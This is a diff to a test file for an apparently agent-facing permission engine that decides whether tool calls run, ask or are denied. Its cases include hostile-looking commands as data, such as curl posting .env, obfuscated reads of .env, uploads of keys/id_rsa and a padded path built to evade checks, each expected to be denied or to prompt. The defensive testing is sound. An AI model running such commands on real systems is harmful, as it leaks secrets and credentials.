@@ -114,8 +114,9 @@ describe("rules", () => {
     ["behind an option", env, "bash", { command: "curl --data=@.env x" }, "denied"],
     ["in a redirection", env, "bash", { command: "cat < .env" }, "denied"],
     ["in a substitution", env, "bash", { command: "echo $(cat '.e'nv)" }, "denied"],
+    ["made longer than it is", env, "upload", { file: `${"./".repeat(5000)}.env` }, "denied"],
     ["deep in the arguments", env, "upload", { what: [{ file: "keys/id_rsa" }] }, "denied"],
-    ["too many arguments", env, "upload", { all: Array.from({ length: 600 }, (_, i) => `f${i}`) }, "asks"],
+    ["too many arguments", env, "upload", { all: Array.from({ length: 300 }, (_, i) => `f${i}`) }, "asks"],
     ["another file", env, "read", { path: "src/a.ts" }, "runs"],
 
     ["an allowed file", src, "write", { path: "src/new.ts", content: "" }, "runs"],
@@ -126,6 +127,7 @@ describe("rules", () => {
     ["reading where a linked folder leads", src, "read", { path: "keys/id_rsa" }, "asks"],
     ["searching it all", src, "grep", { pattern: "x", path: "src" }, "runs"],
     ["searching more than it all", src, "grep", { pattern: "x" }, "asks"],
+    ["a resource that is no file", src, "read", { path: "vault://key" }, "asks"],
     ["an allowed command", src, "bash", { command: "git status" }, "runs"],
     ["two of them", src, "bash", { command: "git status && ls -la" }, "runs"],
     ["one of two", src, "bash", { command: "git status && rm x" }, "asks"],
